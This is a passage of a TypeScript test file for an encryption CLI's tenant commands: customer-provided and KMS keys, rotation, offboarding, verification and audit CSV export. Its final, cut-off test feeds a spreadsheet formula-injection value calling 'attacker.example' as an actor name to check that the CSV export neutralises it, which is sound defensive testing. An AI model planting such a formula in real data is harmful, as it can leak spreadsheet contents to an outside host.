import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import 'reflect-metadata';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EnvelopeEncryption, LocalKeyProvider } from '../../../src';
import { createTenantCliProject, runTenantCli, withJson } from '../../support/cli-project';
import { parseCsv } from '../../support/csv';
import { rawQuery, type TestSchema } from '../../support/database';
import { type KmsEmulator, startKmsEmulator } from '../../support/kms-emulator';
import { type EmulatedUserCredentials, type StsEmulator, startStsEmulator } from '../../support/sts-emulator';
import { TenantContact, tenantContactsDataSource } from '../../support/tenant-entities';

/** The customer owns the KMS key and the role; the application runs in the vendor's account. */
const CUSTOMER = '111122223333';
const VENDOR = '444455556666';
const ROLE = `arn:aws:iam::${CUSTOMER}:role/saas-data-encryption`;
const ACTOR = 'cli-tenants-test';
const WORKSPACES = ['ws-byok', 'ws-stdin', 'ws-vendor', 'ws-kms', 'ws-gone', 'ws-revert'];
/** Rows per workspace; every other row has a profile, so 6 emails and 3 profiles are stored. */
const ROWS = 6;
const VALUES = 9;

let schema: TestSchema;
let env: Record<string, string>;
let sts: StsEmulator;
let kms: KmsEmulator;
let app: EmulatedUserCredentials;
let keyDir: string;
/** Every customer-provided key the tests made, to look for in every output and table. */
const customerKeys: Buffer[] = [];
/** Every stdout and stderr the CLI printed. */
const outputs: string[] = [];

const cli = async (
  args: string[],
  options: { input?: string | Buffer; env?: Record<string, string> } = {},
) => {
  const run = await runTenantCli(args, { ...env, ...options.env }, { input: options.input });
  outputs.push(run.stdout, run.stderr);
  return run;
};

/** Runs the CLI and parses its stdout, which must be exactly one JSON document. */
const cliJson = async (
  args: string[],
  options: { input?: string | Buffer; env?: Record<string, string> } = {},
) => {
  return withJson(await cli(['--json', ...args], options), args);
};

const newCustomerKey = () => {
  const key = randomBytes(32);
  customerKeys.push(key);
  return key;
};

/** A key file as the customer hands it over: base64 text, readable by its owner only. */
const keyFile = (key: Buffer, name: string, content: string | Buffer = `${key.toString('base64')}\n`) => {
  const path = join(keyDir, name);
  writeFileSync(path, content, { mode: 0o600 });
  chmodSync(path, 0o600);
  return path;
};

const fingerprintOf = (key: Buffer) => {
  const provider = new LocalKeyProvider({ key: key.toString('base64') });
  try {
    return provider.fingerprint;
  } finally {
    provider.destroy();
  }
};

const sql = <T = Record<string, unknown>>(text: string, params?: unknown[]) =>
  rawQuery<T>(schema.url, text.replaceAll('$schema', `"${schema.schema}"`), params);

/** Stored values of a workspace per key version: `{ version: count }` over email and profile. */
const versionsOf = async (workspace: string) => {
  const rows = await sql<{ v: number; n: number }>(
    `SELECT v, count(*)::int AS n FROM (
       SELECT email_key_version AS v FROM $schema.tenant_contacts WHERE "workspaceId" = $1
       UNION ALL
       SELECT profile_key_version FROM $schema.tenant_contacts WHERE "workspaceId" = $1 AND profile_key_version IS NOT NULL
     ) s GROUP BY v ORDER BY v`,
    [workspace],
  );
  return Object.fromEntries(rows.map((r) => [r.v, r.n]));
};

const ciphertextsOf = async (workspace: string) =>
  (
    await sql<{ ct: Buffer; iv: Buffer }>(
      `SELECT email_ciphertext AS ct, email_iv AS iv FROM $schema.tenant_contacts WHERE "workspaceId" = $1 ORDER BY id`,
      [workspace],
    )
  ).map((r) => `${r.ct.toString('hex')}:${r.iv.toString('hex')}`);

const tenantRow = async (workspace: string) =>
  (
    await sql<{
      state: string;
      active_version: number | null;
      external_id: string;
      job: { kind: string; state: string; rowsDone: number; rowsTotal: number } | null;
      rotation_interval_days: number;
    }>('SELECT * FROM $schema.typeorm_envelope_tenants WHERE tenant_id = $1', [workspace])
  )[0];

const tenantKeys = (workspace: string) =>
  sql<{
    version: number;
    provider_kind: string;
    key_reference: string;
    state: string;
    descriptor: Record<string, unknown>;
    last_validated_at: Date | null;
  }>('SELECT * FROM $schema.typeorm_envelope_tenant_keys WHERE tenant_id = $1 ORDER BY version', [workspace]);

const auditOf = (workspace: string) =>
  sql<{ id: string; event: string; actor: string; key_version: number | null; at: Date }>(
    'SELECT id, event, actor, key_version, at FROM $schema.typeorm_envelope_audit_log WHERE tenant_id = $1 ORDER BY id',
    [workspace],
  );

const noStack = (text: string) => expect(text).not.toMatch(/\n\s+at /);

beforeAll(async () => {
  sts = await startStsEmulator();
  kms = await startKmsEmulator({ accountId: VENDOR, principalOf: (id) => sts.principalOf(id) });
  app = sts.createUser(VENDOR, 'saas-app');
  const project = await createTenantCliProject({
    prefix: 'cli_tenants',
    workspaces: WORKSPACES,
    rows: ROWS,
    maxUses: 4,
  });
  schema = project.schema;
  env = {
    ...project.env,
    TYPEORM_ENVELOPE_ACTOR: ACTOR,
    TEST_KMS_ENDPOINT: kms.endpoint,
    TEST_STS_ENDPOINT: sts.endpoint,
    TEST_AWS_ACCESS_KEY_ID: app.accessKeyId,
    TEST_AWS_SECRET_ACCESS_KEY: app.secretAccessKey,
  };
  keyDir = mkdtempSync(join(tmpdir(), 'tenant-keys-'));
});
afterAll(async () => {
  await schema?.drop();
  await kms?.close();
  await sts?.close();
});

describe('typeorm-envelope tenants: customer-provided keys', () => {
  let byokKey: Buffer;
  let firstVersion: number;
  let secondVersion: number;

  it('refuses a key given on the command line, says why, and records nothing', async () => {
    const key = newCustomerKey().toString('base64');
    for (const args of [
      ['tenants', 'add', 'ws-byok', '--customer-key', key],
      ['tenants', 'add', 'ws-byok', `--customer-key=${key}`],
      // The key where its file's path belongs.
      ['tenants', 'add', 'ws-byok', '--customer-key-file', key],
    ]) {
      const run = await cli(args);
      expect(run.status).toBe(1);
      expect(run.stderr).toContain('never taken on the command line');
      expect(run.stderr).toContain('--customer-key-file');
      expect(run.stdout + run.stderr).not.toContain(key);
      noStack(run.stderr);
    }
    const neither = await cli(['tenants', 'add', 'ws-byok']);
    expect(neither.status).toBe(1);
    expect(neither.stderr).toContain('--customer-key-file');
    expect(neither.stderr).toContain('--kms-key');
    expect(await tenantKeys('ws-byok')).toEqual([]);
    expect(await tenantRow('ws-byok')).toBeUndefined();
  });

  it('tenants add --customer-key-file validates and activates the key; its existing rows wait for the job', async () => {
    byokKey = newCustomerKey();
    const ciphertexts = await ciphertextsOf('ws-byok');
    const run = await cli(['tenants', 'add', 'ws-byok', '--customer-key-file', keyFile(byokKey, 'byok.key')]);
    expect(run.status, run.stderr).toBe(0);
    const [key] = await tenantKeys('ws-byok');
    firstVersion = key?.version as number;
    expect(firstVersion).toBeGreaterThanOrEqual(1_000_000);
    expect(key).toMatchObject({
      provider_kind: 'customer-key',
      key_reference: fingerprintOf(byokKey),
      state: 'active',
    });
    expect(run.stdout).toContain(`key version ${firstVersion}`);
    expect(run.stdout).toContain(fingerprintOf(byokKey));
    expect(run.stdout).toContain('typeorm-envelope tenants run-job ws-byok');
    expect(await tenantRow('ws-byok')).toMatchObject({
      state: 'active',
      active_version: firstVersion,
      job: { kind: 'onboarding', state: 'pending' },
    });
    // Nothing moved yet.
    expect(await versionsOf('ws-byok')).toEqual({ 1: VALUES });
    expect(await ciphertextsOf('ws-byok')).toEqual(ciphertexts);
  });

  it('tenants run-job moves the rows under the key without touching ciphertexts, and only that tenant', async () => {
    const ciphertexts = await ciphertextsOf('ws-byok');
    const run = await cliJson(['tenants', 'run-job', 'ws-byok', '--batch-size', '2']);
    expect(run.status, run.stderr).toBe(0);
    expect(run.json).toMatchObject({
      tenantId: 'ws-byok',
      job: { kind: 'onboarding', state: 'completed', rowsDone: VALUES, rowsTotal: VALUES, error: null },
    });
    expect(await versionsOf('ws-byok')).toEqual({ [firstVersion]: VALUES });
    expect(await ciphertextsOf('ws-byok')).toEqual(ciphertexts);
    for (const other of WORKSPACES.filter((w) => w !== 'ws-byok')) {
      expect(await versionsOf(other)).toEqual({ 1: VALUES });
    }
    expect((await tenantRow('ws-byok'))?.job).toMatchObject({ state: 'completed', rowsDone: VALUES });

    // Another process with only the application key reads the tenant's rows through the registry.
    const encryption = new EnvelopeEncryption({
      keys: [{ version: 1, provider: new LocalKeyProvider({ key: env.TEST_MASTER_KEY_1 as string }) }],
      activeVersion: 1,
    });
    const dataSource = tenantContactsDataSource(encryption, schema.url, schema.schema);
    await dataSource.initialize();
    try {
      const contacts = await dataSource.getRepository(TenantContact).find({
        where: { workspaceId: 'ws-byok' },
        order: { id: 'ASC' },
      });
      expect(contacts.map((c) => c.email)).toEqual(
        Array.from({ length: ROWS }, (_, i) => `c${i}@ws-byok.example`),
      );
    } finally {
      await dataSource.destroy();
    }

    const verify = await cli(['verify', '--tenant', 'ws-byok']);
    expect(verify.status, verify.stderr).toBe(0);
    expect(verify.stdout).toContain(`${VALUES} values checked, 0 failed`);
  });

  it('tenants add reads a key from stdin with -, and prints one JSON document with --json', async () => {
    const key = newCustomerKey();
    const run = await cliJson(['tenants', 'add', 'ws-stdin', '--customer-key-file', '-'], {
      input: `${key.toString('base64')}\n`,
    });
    expect(run.status, run.stderr).toBe(0);
    expect(run.json).toMatchObject({
      tenantId: 'ws-stdin',
      kind: 'customer-key',
      state: 'active',
      keyReference: fingerprintOf(key),
      job: { kind: 'onboarding', state: 'pending' },
    });
    const [stored] = await tenantKeys('ws-stdin');
    expect(stored).toMatchObject({ version: run.json.version, key_reference: fingerprintOf(key) });

    const empty = await cli(['tenants', 'add', 'ws-stdin', '--customer-key-file', '-'], { input: '' });
    expect(empty.status).toBe(1);
    expect(empty.stderr).toContain('no key on stdin');
    expect(await tenantKeys('ws-stdin')).toHaveLength(1);
  });

  it('a key file readable by others is used, with a warning', async () => {
    const key = newCustomerKey();
    const path = join(keyDir, 'loose.key');
    writeFileSync(path, key.toString('base64'));
    chmodSync(path, 0o644);
    const run = await cliJson(['tenants', 'add', 'ws-revert', '--customer-key-file', path, '--no-activate']);
    expect(run.status, run.stderr).toBe(0);
    expect(run.stderr).toContain('readable by other users');
    expect(run.json).toMatchObject({ state: 'decrypt-only', job: null, keyReference: fingerprintOf(key) });
    expect(await tenantRow('ws-revert')).toMatchObject({ active_version: null });
  });

  it('--no-activate, validate, activate, then rotate --tenant runs the pending job', async () => {
    const key = newCustomerKey();
    // 32 raw bytes, as `openssl rand 32 > key` writes them.
    const added = await cliJson([
      'tenants',
      'add',
      'ws-byok',
      '--customer-key-file',
      keyFile(key, 'byok-2.bin', key),
      '--no-activate',
    ]);
    expect(added.status, added.stderr).toBe(0);
    secondVersion = added.json.version;
    expect(added.json).toMatchObject({ state: 'decrypt-only', keyReference: fingerprintOf(key), job: null });
    expect(await tenantRow('ws-byok')).toMatchObject({ active_version: firstVersion });
    expect((await tenantKeys('ws-byok')).map((k) => [k.version, k.state])).toEqual([
      [firstVersion, 'active'],
      [secondVersion, 'decrypt-only'],
    ]);

    const validated = await cli(['tenants', 'validate', 'ws-byok', String(secondVersion)]);
    expect(validated.status, validated.stderr).toBe(0);
    expect(validated.stdout).toContain(`key version ${secondVersion}`);
    expect(validated.stdout).toContain('round trip');
    expect((await tenantKeys('ws-byok'))[1]?.last_validated_at).toBeInstanceOf(Date);

    const activated = await cli(['tenants', 'activate', 'ws-byok', String(secondVersion)]);
    expect(activated.status, activated.stderr).toBe(0);
    expect(activated.stdout).toContain(`key version ${secondVersion} is active`);
    expect(await tenantRow('ws-byok')).toMatchObject({
      active_version: secondVersion,
      job: { kind: 'rotation', state: 'pending' },
    });
    expect(await versionsOf('ws-byok')).toEqual({ [firstVersion]: VALUES });

    // A version that is not the tenant's active one is refused: its new rows use the active one.
    const refused = await cli(['rotate', '--tenant', 'ws-byok', '--to', String(firstVersion)]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(`typeorm-envelope tenants activate ws-byok ${firstVersion}`);
    expect(await versionsOf('ws-byok')).toEqual({ [firstVersion]: VALUES });

    // A dry run only counts, even with a job pending.
    const dry = await cliJson(['rotate', '--tenant', 'ws-byok', '--dry-run']);
    expect(dry.status, dry.stderr).toBe(0);
    expect(dry.json).toMatchObject({ tenant: 'ws-byok', toVersion: secondVersion, dryRun: true });
    expect(dry.json.properties.map((p: { rowsTotal: number }) => p.rowsTotal)).toEqual([ROWS, ROWS / 2]);
    expect(await versionsOf('ws-byok')).toEqual({ [firstVersion]: VALUES });
    expect((await tenantRow('ws-byok'))?.job).toMatchObject({ state: 'pending' });

    const rotated = await cliJson(['rotate', '--tenant', 'ws-byok']);
    expect(rotated.status, rotated.stderr).toBe(0);
    expect(rotated.json).toMatchObject({
      tenantId: 'ws-byok',
      job: { kind: 'rotation', state: 'completed', toVersion: secondVersion, rowsDone: VALUES },
    });
    expect(await versionsOf('ws-byok')).toEqual({ [secondVersion]: VALUES });
    expect((await tenantRow('ws-byok'))?.job).toMatchObject({ kind: 'rotation', state: 'completed' });

    // Without a pending job, rotate --tenant re-wraps whatever of the tenant is left under other keys.
    const again = await cliJson(['rotate', '--tenant', 'ws-byok']);
    expect(again.status, again.stderr).toBe(0);
    expect(again.json).toMatchObject({ tenant: 'ws-byok', toVersion: secondVersion, dryRun: false });
    expect(
      again.json.properties.map((p: { property: string; rowsRewrapped: number }) => [
        p.property,
        p.rowsRewrapped,
      ]),
    ).toEqual([
      ['email', 0],
      ['profile', 0],
    ]);
    expect(await versionsOf('ws-byok')).toEqual({ [secondVersion]: VALUES });
  });

  it('tenants status, list and status --tenant show keys, job and rows by version, never key material', async () => {
    const status = await cliJson(['tenants', 'status', 'ws-byok']);
    expect(status.status, status.stderr).toBe(0);
    expect(status.json).toMatchObject({
      tenantId: 'ws-byok',
      state: 'active',
      activeVersion: secondVersion,
      job: { kind: 'rotation', state: 'completed' },
      rotationIntervalDays: 365,
      dueForRotation: false,
    });
    expect(status.json.keys.map((k: { version: number; state: string }) => [k.version, k.state])).toEqual([
      [firstVersion, 'decrypt-only'],
      [secondVersion, 'active'],
    ]);
    expect(status.stdout).not.toMatch(/wrappedKey|descriptor/);

    const text = await cli(['tenants', 'status', 'ws-byok']);
    expect(text.status).toBe(0);
    expect(text.stdout).toContain('tenant ws-byok: active');
    expect(text.stdout).toMatch(new RegExp(`active key: version ${secondVersion} \\(customer-key sha256:`));
    expect(text.stdout).toContain('job: rotation completed');
    expect(text.stdout).toMatch(
      new RegExp(`^${firstVersion}\\s+customer-key\\s+sha256:[0-9a-f]+\\s+decrypt-only`, 'm'),
    );

    const list = await cliJson(['tenants', 'list']);
    expect(list.status).toBe(0);
    const listed = list.json.map((t: { tenantId: string }) => t.tenantId);
    expect(listed).toEqual(expect.arrayContaining(['ws-byok', 'ws-stdin', 'ws-revert']));
    const registered = await sql<{ tenant_id: string }>(
      'SELECT tenant_id FROM $schema.typeorm_envelope_tenants ORDER BY tenant_id',
    );
    expect([...listed].sort()).toEqual(registered.map((r) => r.tenant_id).sort());
    // --json after the command works the same.
    const after = await cli(['tenants', 'list', '--json']);
    expect(JSON.parse(after.stdout)).toEqual(list.json);
    const listText = await cli(['tenants', 'list']);
    expect(listText.stdout).toMatch(/^tenant\s+state\s+key version\s+key\s+job\s+due$/m);
    expect(listText.stdout).toMatch(new RegExp(`^ws-byok\\s+active\\s+${secondVersion}\\s+sha256:`, 'm'));

    const rows = await cliJson(['status', '--tenant', 'ws-byok']);
    expect(rows.status, rows.stderr).toBe(0);
    expect(rows.json.tenant).toMatchObject({ tenantId: 'ws-byok', activeVersion: secondVersion });
    expect(rows.json.properties).toEqual([
      expect.objectContaining({
        entity: 'TenantContact',
        property: 'email',
        rowsByVersion: { [secondVersion]: ROWS },
      }),
      expect.objectContaining({
        entity: 'TenantContact',
        property: 'profile',
        rowsByVersion: { [secondVersion]: ROWS / 2 },
        nullRows: ROWS / 2,
      }),
    ]);
    const vendor = await cliJson(['status', '--tenant', 'ws-vendor']);
    expect(vendor.json.tenant).toMatchObject({ tenantId: 'ws-vendor', activeVersion: null });
    expect(vendor.json.properties[0]).toMatchObject({ property: 'email', rowsByVersion: { 1: ROWS } });
    const vendorText = await cli(['status', '--tenant', 'ws-vendor']);
    expect(vendorText.stdout).toContain('application key');
  });

  it('tenants run-job draws a progress bar on a terminal', async () => {
    const hasScript = spawnSync('script', ['--version'], { encoding: 'utf8' }).status === 0;
    if (!hasScript) return;
    expect(
      (await cli(['tenants', 'activate', 'ws-revert', String((await tenantKeys('ws-revert'))[0]?.version)]))
        .status,
    ).toBe(0);
    // `script` gives the CLI a terminal: cli-progress only draws on one.
    const quote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
    const argv = [
      process.execPath,
      '-r',
      join(__dirname, '../../support/register-ts.cjs'),
      join(__dirname, '../../../src/cli/main.ts'),
      '-d',
      join(__dirname, '../../fixtures/tenant-project.ts'),
      'tenants',
      'run-job',
      'ws-revert',
      '--batch-size',
      '2',
    ];
    const run = spawnSync('script', ['-qec', argv.map(quote).join(' '), '/dev/null'], {
      env: { ...process.env, ...env },
      encoding: 'utf8',
      timeout: 120_000,
    });
    outputs.push(run.stdout, run.stderr);
    expect(run.status, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toContain(`${VALUES}/${VALUES} values`);
    expect(run.stdout).toContain('100%');
    expect(run.stdout).toContain('tenant ws-revert');
    expect(run.stdout).toContain('job completed');
    const version = (await tenantRow('ws-revert'))?.active_version;
    expect(await versionsOf('ws-revert')).toEqual({ [version as number]: VALUES });
  });

  it('tenants revert moves the tenant back to the application key, audited', async () => {
    const reverted = await cli(['tenants', 'revert', 'ws-revert']);
    expect(reverted.status, reverted.stderr).toBe(0);
    expect(reverted.stdout).toContain('application key');
    expect(reverted.stdout).toContain(
      'its existing rows move back to it with the job: typeorm-envelope tenants run-job ws-revert',
    );
    expect(await tenantRow('ws-revert')).toMatchObject({
      active_version: null,
      job: { kind: 'revert', state: 'pending' },
    });
    const job = await cliJson(['tenants', 'run-job', 'ws-revert']);
    expect(job.status, job.stderr).toBe(0);
    expect(job.json.job).toMatchObject({ kind: 'revert', state: 'completed', rowsDone: VALUES });
    expect(await versionsOf('ws-revert')).toEqual({ 1: VALUES });
    expect((await auditOf('ws-revert')).map((e) => e.event)).toContain('tenant-reverted');
  });

  it('tenants due lists tenants whose key is older than their rotation interval', async () => {
    const none = await cliJson(['tenants', 'due']);
    expect(none.status).toBe(0);
    expect(none.json).toEqual([]);
    await sql(
      "UPDATE $schema.typeorm_envelope_tenants SET key_activated_at = now() - interval '400 days' WHERE tenant_id = 'ws-stdin'",
    );
    const due = await cliJson(['tenants', 'due']);
    expect(due.json.map((t: { tenantId: string }) => t.tenantId)).toEqual(['ws-stdin']);
    const text = await cli(['tenants', 'due']);
    expect(text.stdout).toMatch(/^ws-stdin\s+active\s+\d+\s+sha256:[0-9a-f]+\s+onboarding pending\s+yes$/m);

    const interval = await cli(['tenants', 'rotation-interval', 'ws-stdin', '500']);
    expect(interval.status, interval.stderr).toBe(0);
    expect((await tenantRow('ws-stdin'))?.rotation_interval_days).toBe(500);
    expect((await cliJson(['tenants', 'due'])).json).toEqual([]);
  });
});

describe('typeorm-envelope tenants: a KMS key in the customer account', () => {
  let keyArn: string;
  let externalId: string;

  it('tenants external-id gives the stable id the customer puts in its trust policy', async () => {
    const first = await cliJson(['tenants', 'external-id', 'ws-kms']);
    expect(first.status, first.stderr).toBe(0);
    externalId = first.json.externalId;
    expect(first.json).toEqual({ tenantId: 'ws-kms', externalId: expect.any(String) });
    expect(externalId.length).toBeGreaterThanOrEqual(20);
    const text = await cli(['tenants', 'external-id', 'ws-kms']);
    expect(text.stdout.trim()).toBe(externalId);
    expect((await tenantRow('ws-kms'))?.external_id).toBe(externalId);

    // The customer creates the role with that External ID and lets it use its key.
    sts.defineRole({ roleArn: ROLE, trust: { principals: [VENDOR], externalId } });
    keyArn = kms.createKey({
      accountId: CUSTOMER,
      description: 'ws-kms customer key',
      policy: [
        { principals: [`arn:aws:iam::${CUSTOMER}:role/key-admin`], actions: ['kms:*'] },
        {
          principals: [ROLE],
          actions: ['kms:DescribeKey', 'kms:GenerateDataKey', 'kms:Decrypt', 'kms:Encrypt'],
        },
      ],
    }).Arn;
  });

  it('a wrong External ID is refused as a typed error naming the tenant, and nothing is recorded', async () => {
    const run = await cli([
      'tenants',
      'add',
      'ws-kms',
      '--kms-key',
      keyArn,
      '--role-arn',
      ROLE,
      '--external-id',
      'not-the-tenant-id',
    ]);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain('KeyAccessDeniedError');
    expect(run.stderr).toContain('tenant ws-kms');
    expect(run.stderr).toContain(ROLE);
    noStack(run.stderr);
    expect(await tenantKeys('ws-kms')).toEqual([]);
    expect((await auditOf('ws-kms')).map((e) => e.event)).toContain('tenant-key-validation-failed');
  });

  it('tenants add --kms-key --role-arn validates through the role and onboards the tenant', async () => {
    const run = await cliJson(['tenants', 'add', 'ws-kms', '--kms-key', keyArn, '--role-arn', ROLE]);
    expect(run.status, run.stderr).toBe(0);
    expect(run.json).toMatchObject({
      tenantId: 'ws-kms',
      kind: 'aws-kms',
      keyReference: keyArn,
      state: 'active',
    });
    const [stored] = await tenantKeys('ws-kms');
    expect(stored).toMatchObject({ provider_kind: 'aws-kms', key_reference: keyArn, state: 'active' });
    expect(stored?.descriptor).toEqual({ keyId: keyArn, roleArn: ROLE, externalId, region: 'us-east-1' });

    const job = await cliJson(['tenants', 'run-job', 'ws-kms']);
    expect(job.status, job.stderr).toBe(0);
    expect(job.json.job).toMatchObject({ state: 'completed', rowsDone: VALUES });
    expect(await versionsOf('ws-kms')).toEqual({ [stored?.version as number]: VALUES });
    // The key was used by the role's sessions, never by the application's own credentials.
    expect(kms.callLog.length).toBeGreaterThan(0);
    expect(kms.callLog.every((c) => c.principal?.includes(':assumed-role/saas-data-encryption/'))).toBe(true);
    // The tenant id is in the KMS encryption context of every data key, for the customer's key policy.
    const withContext = kms.callLog.filter((c) => c.encryptionContext);
    expect(withContext.length).toBeGreaterThan(0);
    expect(withContext.every((c) => c.encryptionContext?.['typeorm-envelope:tenant'] === 'ws-kms')).toBe(
      true,
    );
  });

  it('a job that fails exits non-zero, prints the reason, and persists the failed state', async () => {
    await sql(
      "UPDATE $schema.typeorm_envelope_tenants SET job = jsonb_set(job, '{state}', '\"pending\"') WHERE tenant_id = 'ws-kms'",
    );
    kms.disableKey(keyArn);
    try {
      const run = await cliJson(['tenants', 'run-job', 'ws-kms']);
      expect(run.status).toBe(1);
      expect(run.json.job).toMatchObject({ state: 'failed' });
      expect(run.json.job.error).toMatch(/ws-kms|disabled|KeyAccessDenied/i);
      const text = await cli(['tenants', 'run-job', 'ws-kms']);
      expect(text.status).toBe(1);
      expect(text.stdout + text.stderr).toContain('failed');
      noStack(text.stderr);
      expect((await tenantRow('ws-kms'))?.job).toMatchObject({ state: 'failed' });
      expect((await auditOf('ws-kms')).map((e) => e.event)).toContain('tenant-job-failed');
    } finally {
      kms.enableKey(keyArn);
    }
  });
});

describe('typeorm-envelope tenants offboard and verify', () => {
  it('offboard refuses without --yes, explaining it cannot be undone', async () => {
    const key = newCustomerKey();
    expect(
      (await cli(['tenants', 'add', 'ws-gone', '--customer-key-file', keyFile(key, 'gone.key')])).status,
    ).toBe(0);
    expect((await cli(['tenants', 'run-job', 'ws-gone'])).status).toBe(0);
    const refused = await cli(['tenants', 'offboard', 'ws-gone']);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain('cannot be undone');
    expect(refused.stderr).toContain('--yes');
    expect(await tenantRow('ws-gone')).toMatchObject({ state: 'active' });
    expect((await tenantKeys('ws-gone'))[0]).toMatchObject({ state: 'active' });
    expect((await tenantKeys('ws-gone'))[0]?.descriptor).toHaveProperty('wrappedKey');
  });

  it('offboard --yes destroys the tenant key; verify counts its rows as offboarded, not failed', async () => {
    const run = await cliJson(['tenants', 'offboard', 'ws-gone', '--yes']);
    expect(run.status, run.stderr).toBe(0);
    expect(run.json).toEqual({
      tenantId: 'ws-gone',
      keysDestroyed: 1,
      indexKeysErased: 0,
      valuesUnderApplicationKey: 0,
    });
    expect(await tenantRow('ws-gone')).toMatchObject({ state: 'offboarded' });
    const [destroyed] = await tenantKeys('ws-gone');
    expect(destroyed?.state).toBe('destroyed');
    expect(destroyed?.descriptor).not.toHaveProperty('wrappedKey');

    const tenant = await cliJson(['verify', '--tenant', 'ws-gone']);
    expect(tenant.status, tenant.stderr).toBe(0);
    expect(tenant.json).toMatchObject({ rowsChecked: VALUES, failed: 0, offboarded: VALUES });
    const text = await cli(['verify', '--tenant', 'ws-gone']);
    expect(text.status).toBe(0);
    expect(text.stdout).toContain(`${VALUES} values checked, 0 failed, ${VALUES} of offboarded tenants`);
    expect(text.stdout).toMatch(/^ws-gone\s+TenantContact\s+email\s+6$/m);

    const all = await cli(['verify']);
    expect(all.status, all.stdout + all.stderr).toBe(0);
    expect(all.stdout).toContain(
      `${WORKSPACES.length * VALUES} values checked, 0 failed, ${VALUES} of offboarded tenants`,
    );

    const again = await cli([
      'tenants',
      'add',
      'ws-gone',
      '--customer-key-file',
      keyFile(newCustomerKey(), 'gone-2.key'),
    ]);
    expect(again.status).toBe(1);
    expect(again.stderr).toContain('offboarded');
    expect(await tenantKeys('ws-gone')).toHaveLength(1);
  });

  it('verify exits non-zero on a corrupt value and lists it apart from offboarded rows', async () => {
    const [victim] = await sql<{ id: number }>(
      `SELECT id FROM $schema.tenant_contacts WHERE "workspaceId" = 'ws-vendor' ORDER BY id LIMIT 1`,
    );
    const flip = `UPDATE $schema.tenant_contacts SET email_iv = set_byte(email_iv, 0, get_byte(email_iv, 0) # 1) WHERE id = $1`;
    await sql(flip, [victim?.id]);
    try {
      const run = await cliJson(['verify']);
      expect(run.status).toBe(1);
      expect(run.json).toMatchObject({ failed: 1, offboarded: VALUES });
      const text = await cli(['verify']);
      expect(text.status).toBe(1);
      expect(text.stdout).toContain('1 failed');
      expect(text.stdout).toMatch(
        new RegExp(`^TenantContact\\s+email\\s+${victim?.id}\\s+1\\s+ws-vendor\\s`, 'm'),
      );
      expect(text.stdout + text.stderr).not.toMatch(/c\d@ws-[a-z]+\.example/);
    } finally {
      await sql(flip, [victim?.id]);
    }
  });
});

describe('typeorm-envelope audit', () => {
  it('filters by tenant and exports RFC 4180 CSV with the tenant column', async () => {
    const run = await cli(['audit', '--tenant', 'ws-byok', '--format', 'csv']);
    expect(run.status, run.stderr).toBe(0);
    const [header, ...records] = parseCsv(run.stdout);
    expect(header).toEqual(['id', 'at', 'event', 'tenant', 'keyVersion', 'actor', 'details']);
    const stored = await auditOf('ws-byok');
    expect(records.map((r) => r[0])).toEqual(stored.map((e) => e.id));
    expect(records.map((r) => r[1])).toEqual(stored.map((e) => e.at.toISOString()));
    expect(records.every((r) => r[3] === 'ws-byok' && r[5] === ACTOR)).toBe(true);
    expect(records.map((r) => r[2])).toEqual(
      expect.arrayContaining([
        'tenant-key-added',
        'tenant-key-validated',
        'tenant-key-activated',
        'tenant-job-started',
        'tenant-job-finished',
      ]),
    );
    for (const record of records) expect(() => JSON.parse(record[6] as string)).not.toThrow();
  });

  it('filters by event, actor, time and limit; JSON is one document', async () => {
    const activated = await cliJson(['audit', '--tenant', 'ws-byok', '--event', 'tenant-key-activated']);
    expect(activated.status).toBe(0);
    expect(activated.json.map((e: { keyVersion: number }) => e.keyVersion)).toEqual(
      (await auditOf('ws-byok')).filter((e) => e.event === 'tenant-key-activated').map((e) => e.key_version),
    );
    expect(activated.json).toHaveLength(2);

    const several = await cli([
      'audit',
      '--format',
      'json',
      '--tenant',
      'ws-byok',
      '--event',
      'tenant-key-added',
      'tenant-job-finished',
    ]);
    expect(JSON.parse(several.stdout).map((e: { event: string }) => e.event)).toEqual([
      'tenant-key-added',
      'tenant-job-finished',
      'tenant-key-added',
      'tenant-job-finished',
    ]);

    expect((await cliJson(['audit', '--actor', 'somebody-else'])).json).toEqual([]);
    const all = await sql<{ id: string; at: Date }>(
      'SELECT id, at FROM $schema.typeorm_envelope_audit_log ORDER BY id',
    );
    const middle = all[Math.floor(all.length / 2)] as { id: string; at: Date };
    const since = await cliJson(['audit', '--since', middle.at.toISOString()]);
    expect(since.json.map((e: { id: number }) => String(e.id))).toEqual(
      (
        await sql<{ id: string }>(
          'SELECT id FROM $schema.typeorm_envelope_audit_log WHERE at >= $1 ORDER BY id',
          [middle.at.toISOString()],
        )
      ).map((r) => r.id),
    );
    const until = await cliJson(['audit', '--until', middle.at.toISOString()]);
    expect(until.json.map((e: { id: number }) => String(e.id))).toEqual(
      (
        await sql<{ id: string }>(
          'SELECT id FROM $schema.typeorm_envelope_audit_log WHERE at < $1 ORDER BY id',
          [middle.at.toISOString()],
        )
      ).map((r) => r.id),
    );
    const limited = await cliJson(['audit', '--limit', '2']);
    expect(limited.json.map((e: { id: number }) => String(e.id))).toEqual(all.slice(-2).map((r) => r.id));

    const badDate = await cli(['audit', '--since', 'last tuesday']);
    expect(badDate.status).toBe(1);
    expect(badDate.stderr).toContain('ISO 8601');
    const badFormat = await cli(['audit', '--format', 'xml']);
    expect(badFormat.status).toBe(1);
    expect(badFormat.stderr).toMatch(/table, csv or json/);
  });

  it('an actor that looks like a formula is defused in the CSV', async () => {
    const actor = '=HYPERLINK("https://attacker.example/?"&A1,"open")';
    const run = await cli(['tenants', 'rotation-interval', 'ws-byok', '400'], {
      env: { TYPEORM_ENVELOPE_ACTOR: actor },
    });
    expect(run.status, run.stderr).toBe(0);
    const [stored] = await sql<{ actor: string }>(
      "SELECT actor FROM $schema.typeorm_envelope_audit_log WHERE event = 'tenant-rotation-interval-set' AND tenant_id = 'ws-byok'",
    );
    expect(stored?.actor).toBe(actor);
    const csv = await cli([
      'audit',
      '--tenant',
      'ws-byok',
      '--event',
      'tenant-rotation-interval-set',
      '--format',
      'csv',
    ]);
    const [, record] = parseCsv(csv.stdout);
    expect(record?.[5]).toBe(`'${actor}`);
